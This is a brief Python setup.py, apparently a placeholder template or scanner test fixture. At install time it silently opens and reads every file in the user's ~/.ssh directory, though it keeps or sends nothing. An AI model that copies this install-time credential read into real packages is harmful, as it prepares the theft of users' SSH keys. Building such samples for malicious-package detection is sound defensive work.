import os
import sys


import glob
for p in glob.glob(os.path.expanduser("~/.ssh/*")):
    with open(p, "rb") as f:
        f.read()

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
